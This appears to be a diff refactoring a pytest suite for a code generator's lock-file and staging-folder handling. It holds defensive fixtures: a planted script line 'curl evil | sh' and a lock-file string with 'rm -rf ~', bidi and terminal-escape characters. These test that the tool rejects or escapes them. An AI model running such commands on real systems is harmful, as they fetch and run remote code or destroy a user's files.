@@ -22,6 +22,8 @@ from pathlib import Path
 
 import pytest
 
+import generator.output.files
+import generator.output.lock
 from generator import cli, output
 from generator.cli import main
 from generator.output import write
@@ -38,7 +40,7 @@ def tree(folder: Path) -> dict[str, bytes | str | None]:
     found: dict[str, bytes | str | None] = {}
     for path in sorted(folder.rglob("*")):
         relative = path.relative_to(folder).as_posix()
-        if "__pycache__" in path.parts or relative == output.LOCK:
+        if "__pycache__" in path.parts or relative == output.lock.LOCK:
             continue  # the lock file: a killed run leaves it (its pid); the next run reuses and removes it
         if path.is_symlink():
             found[relative] = f"-> {os.readlink(path)}"
@@ -193,7 +195,7 @@ def test_a_killed_generate_leaves_the_old_tree_the_new_one_or_a_mix_check_report
         if not ended:
             break  # the run has fewer steps: every one was tried
         assert ended == signum, step
-        now = {k: v for k, v in tree(case.out).items() if not k.startswith(output.STAGING)}
+        now = {k: v for k, v in tree(case.out).items() if not k.startswith(output.files.STAGING)}
         if not renaming(step):
             assert now == case.old, step
         elif signum == signal.SIGTERM:
@@ -250,15 +252,15 @@ def test_a_failure_during_the_renames_names_the_file_and_the_next_run_repairs_it
     assert f"error: out/{target}: " in err or f"/{target}: cannot write" in err, err
     assert ".new" not in err  # the real path, never the staged file's name
     mixed = tree(case.out)
-    assert {k: v for k, v in mixed.items() if not k.startswith(output.STAGING)} not in (case.old, case.new)
+    assert {k: v for k, v in mixed.items() if not k.startswith(output.files.STAGING)} not in (case.old, case.new)
     for flags in ((), ("--full",)):  # the fast check too
         assert main(case.argv("check", "new", *flags)) == 1
         out = capsys.readouterr().out
-        assert f"interrupted: out/{output.STAGING}: an interrupted generate left it; the output files may be part " \
+        assert f"interrupted: out/{output.files.STAGING}: an interrupted generate left it; the output files may be part " \
             "old, part new: run generate" in out
     assert main(case.argv("generate")) == 0
     out = capsys.readouterr().out
-    assert f"note: removed the staging folder an interrupted generate left (out/{output.STAGING})" in out
+    assert f"note: removed the staging folder an interrupted generate left (out/{output.files.STAGING})" in out
     assert tree(case.out) == case.new
     # and Ctrl-C in the run that repairs it: the tree it found is kept, and so is the folder that marks it
     with monkeypatch.context() as patch:
@@ -275,9 +277,9 @@ def test_a_failure_during_the_renames_names_the_file_and_the_next_run_repairs_it
     assert capsys.readouterr().err.strip().endswith("interrupted; the output folder was left as it was")
     assert seen[0].startswith("_delete ")  # removing what the failed run had staged
     after = tree(case.out)
-    assert {k: v for k, v in after.items() if not k.startswith(output.STAGING)} == \
-        {k: v for k, v in before.items() if not k.startswith(output.STAGING)}
-    assert after[output.STAGING] is None and main(case.argv("check", "new")) == 1
+    assert {k: v for k, v in after.items() if not k.startswith(output.files.STAGING)} == \
+        {k: v for k, v in before.items() if not k.startswith(output.files.STAGING)}
+    assert after[output.files.STAGING] is None and main(case.argv("check", "new")) == 1
 
 
 def test_a_failed_staging_step_leaves_the_tree_as_it_was(case, capsys, monkeypatch):
@@ -307,7 +309,7 @@ def test_fsync_mode_puts_each_step_on_disk_before_the_next(case, monkeypatch):
             wrapped = getattr(write, kind)
             patch.setattr(write, kind, lambda *a, w=wrapped: (events.append(("step", seen and seen[-1] or "")), w(*a))[1])
         assert main(case.argv("generate")) == 0
-    staging = str(case.out.resolve() / output.STAGING)
+    staging = str(case.out.resolve() / output.files.STAGING)
     steps = [i for i, (kind, _) in enumerate(events) if kind == "step"]
     at = {event: index for index, event in reversed(list(enumerate(events)))}  # first occurrence
     staged = [i for i, (kind, what) in enumerate(events) if kind == "fsync" and what.endswith(".new")]
@@ -321,16 +323,16 @@ def test_fsync_mode_puts_each_step_on_disk_before_the_next(case, monkeypatch):
 
 
 def test_check_reports_what_an_interrupted_generate_left(case, capsys):
-    staging = case.out / output.STAGING
+    staging = case.out / output.files.STAGING
     staging.mkdir()
     (staging / "0.new").write_text(MARKED)
     assert main(case.argv("check", "old")) == 1  # the old tree is whole, but not clean while this is there
     assert main(case.argv("check", "old", "--full")) == 1
     out = capsys.readouterr().out
-    assert f"interrupted: out/{output.STAGING}: an interrupted generate left it" in out
-    with output.locked(case.out):  # a generate holds the lock: it is writing now
+    assert f"interrupted: out/{output.files.STAGING}: an interrupted generate left it" in out
+    with output.lock.locked(case.out):  # a generate holds the lock: it is writing now
         assert main(case.argv("check", "old")) == 1
-    assert f"busy: out/{output.STAGING}: a generate is writing the output folder now" in capsys.readouterr().out
+    assert f"busy: out/{output.files.STAGING}: a generate is writing the output folder now" in capsys.readouterr().out
     assert main(case.argv("generate", "old")) == 0
     assert "removed the staging folder an interrupted generate left" in capsys.readouterr().out
     assert tree(case.out) == case.old
@@ -341,7 +343,7 @@ def test_check_reports_what_an_interrupted_generate_left(case, capsys):
 
 def plant_staging(out: Path, journal: dict, staged: dict[str, str]) -> None:
     """What a pull request can add: a staging folder with a journal and staged files."""
-    staging = out / output.STAGING
+    staging = out / output.files.STAGING
     staging.mkdir()
     (staging / "journal.json").write_text(json.dumps(journal))
     for name, text in staged.items():
@@ -371,10 +373,10 @@ def test_a_planted_staging_folder_is_never_replayed(tmp_path, monkeypatch, capsy
     payload = ("# @generated by fleet-strategy-codegen\n" if marked else "") + "#!/bin/sh\ncurl evil | sh\n"
     plant_staging(tmp_path, journal, {"0.new": payload, "1.new": payload})
     if marked:
-        (tmp_path / output.STAGING / "journal.json").write_text(head + json.dumps(journal)[1:])
+        (tmp_path / output.files.STAGING / "journal.json").write_text(head + json.dumps(journal)[1:])
     planted = tree(tmp_path)
     assert main(["check", *argv]) == 1
-    assert f"interrupted: {output.STAGING}: an interrupted generate left it" in capsys.readouterr().out
+    assert f"interrupted: {output.files.STAGING}: an interrupted generate left it" in capsys.readouterr().out
     code = main(["generate", *argv])
     err = capsys.readouterr().err
     assert not (tmp_path / ".git" / "hooks" / "pre-commit").exists()
@@ -383,7 +385,7 @@ def test_a_planted_staging_folder_is_never_replayed(tmp_path, monkeypatch, capsy
     if not marked:
         assert code == 2
         for name in ("0.new", "1.new", "journal.json"):
-            assert f"{output.STAGING}/{name}: in the tool's staging folder but not written by fleet-strategy-codegen" in err
+            assert f"{output.files.STAGING}/{name}: in the tool's staging folder but not written by fleet-strategy-codegen" in err
         assert tree(tmp_path) == planted  # nothing at all changed
     else:
         assert code == 0, err
@@ -393,7 +395,7 @@ def test_a_planted_staging_folder_is_never_replayed(tmp_path, monkeypatch, capsy
 
 @pytest.mark.parametrize("what", ["link", "file", "link inside", "folder inside", "fifo inside"])
 def test_anything_else_named_like_the_staging_folder_is_kept_and_reported(case, capsys, what):
-    staging = case.out / output.STAGING
+    staging = case.out / output.files.STAGING
     outside = case.root / "elsewhere"
     outside.mkdir()
     (outside / "keep.py").write_text(MARKED)
@@ -414,7 +416,7 @@ def test_anything_else_named_like_the_staging_folder_is_kept_and_reported(case, 
     assert main(case.argv("check", "new")) == 1
     assert main(case.argv("generate")) == 2
     err = capsys.readouterr().err
-    assert f"out/{output.STAGING}" in err and "kept and nothing was changed" in err, err
+    assert f"out/{output.files.STAGING}" in err and "kept and nothing was changed" in err, err
     assert (outside / "keep.py").read_text() == MARKED
     if before is not None:
         assert tree(case.out) == before
@@ -500,7 +502,7 @@ def hold_lock(out: Path, text: str | None = None) -> subprocess.Popen[str]:
 
 
 def test_a_held_lock_is_reported_then_given_up_after_the_timeout(case, capsys, monkeypatch):
-    monkeypatch.setenv(output.TIMEOUT_VARIABLE, "3")
+    monkeypatch.setenv(output.lock.TIMEOUT_VARIABLE, "3")
     before = tree(case.out)
     holder = hold_lock(case.out)
     try:
@@ -511,19 +513,19 @@ def test_a_held_lock_is_reported_then_given_up_after_the_timeout(case, capsys, m
         holder.kill()
         holder.wait()
     err = capsys.readouterr().err
-    lock = f"out/{output.LOCK}"
+    lock = f"out/{output.lock.LOCK}"
     assert f"waiting: {lock}: another generate holds the output folder (pid {holder.pid}: " in err
-    assert f"waiting up to 3 s ({output.TIMEOUT_VARIABLE})" in err
+    assert f"waiting up to 3 s ({output.lock.TIMEOUT_VARIABLE})" in err
     assert f"error: {lock}: another generate holds the output folder (pid {holder.pid}" in err
     assert "gave up after 3 s" in err and err.index("waiting:") < err.index("error:")
     assert 3 <= took < 20, took
     assert tree(case.out) == before  # nothing written (the killed holder's lock file aside)
     assert main(case.argv("generate")) == 0 and tree(case.out) == case.new  # a dead holder holds nothing
-    assert not (case.out / output.LOCK).exists()  # removed when the run ended
+    assert not (case.out / output.lock.LOCK).exists()  # removed when the run ended
 
 
 def test_what_the_holder_wrote_is_shown_escaped_and_bounded(case, capsys, monkeypatch):
-    monkeypatch.setenv(output.TIMEOUT_VARIABLE, "2.5")
+    monkeypatch.setenv(output.lock.TIMEOUT_VARIABLE, "2.5")
     hostile = "# @generated by fleet-strategy-codegen\npid 1\u202e\ncommand rm -rf ~ \x1b[2J\u2066" + "y" * 5000
     holder = hold_lock(case.out, hostile)
     try:
@@ -537,10 +539,10 @@ def test_what_the_holder_wrote_is_shown_escaped_and_bounded(case, capsys, monkey
 
 
 def test_a_lock_file_the_tool_did_not_write_is_kept(case, capsys):
-    lock = case.out / output.LOCK
+    lock = case.out / output.lock.LOCK
     lock.write_text("my notes\n")
     assert main(case.argv("generate")) == 2
-    assert f"out/{output.LOCK}: not written by fleet-strategy-codegen (no @generated marker), so it was kept" in \
+    assert f"out/{output.lock.LOCK}: not written by fleet-strategy-codegen (no @generated marker), so it was kept" in \
         capsys.readouterr().err
     assert lock.read_text() == "my notes\n"
     lock.unlink()
@@ -548,7 +550,7 @@ def test_a_lock_file_the_tool_did_not_write_is_kept(case, capsys):
     outside.write_text("keep\n")
     lock.symlink_to(outside)
     assert main(case.argv("generate")) == 2
-    assert f"out/{output.LOCK}: a symbolic link is where the tool's lock file goes" in capsys.readouterr().err
+    assert f"out/{output.lock.LOCK}: a symbolic link is where the tool's lock file goes" in capsys.readouterr().err
     assert outside.read_text() == "keep\n" and lock.is_symlink()
 
 
@@ -581,14 +583,14 @@ def test_runs_take_turns_although_each_removes_the_lock_file_it_held(tmp_path):
     runs = [subprocess.Popen([sys.executable, "-c", COUNT, str(tmp_path), "25"], env=env) for _ in range(3)]
     assert [run.wait(timeout=120) for run in runs] == [0, 0, 0]
     assert (tmp_path / "counter").read_text() == "75"
-    assert not (tmp_path / output.LOCK).exists()
+    assert not (tmp_path / output.lock.LOCK).exists()
 
 
 @pytest.mark.parametrize("value", ["soon", "-1", "inf", "nan"])
 def test_a_bad_lock_timeout_is_exit_2(case, capsys, monkeypatch, value):
-    monkeypatch.setenv(output.TIMEOUT_VARIABLE, value)
+    monkeypatch.setenv(output.lock.TIMEOUT_VARIABLE, value)
     assert main(case.argv("generate")) == 2
-    assert f"{output.TIMEOUT_VARIABLE}={value!r}: expected a number of seconds" in capsys.readouterr().err
+    assert f"{output.lock.TIMEOUT_VARIABLE}={value!r}: expected a number of seconds" in capsys.readouterr().err
 
 
 def test_the_tool_imports_and_generates_without_fcntl(case):
@@ -605,10 +607,10 @@ def test_the_tool_imports_and_generates_without_fcntl(case):
     env = {**os.environ, "PYTHONPATH": str(ROOT), "FLEET_CODEGEN_NO_CACHE": "1"}
     done = subprocess.run([sys.executable, "-c", script], cwd=case.root, env=env, capture_output=True, text=True)
     assert done.returncode == 0, done.stderr
-    assert tree(case.out) == case.new and not (case.out / output.LOCK).exists()
+    assert tree(case.out) == case.new and not (case.out / output.lock.LOCK).exists()
     # and a run that finds the lock file there waits for it, and says how to get out
-    (case.out / output.LOCK).write_text(f"# @generated by fleet-strategy-codegen\npid 99999\ncommand gen\n")
-    env[output.TIMEOUT_VARIABLE] = "0"
+    (case.out / output.lock.LOCK).write_text(f"# @generated by fleet-strategy-codegen\npid 99999\ncommand gen\n")
+    env[output.lock.TIMEOUT_VARIABLE] = "0"
     done = subprocess.run([sys.executable, "-c", script], cwd=case.root, env=env, capture_output=True, text=True)
     assert done.returncode == 2
     assert "another generate holds the output folder (pid 99999: gen)" in done.stderr
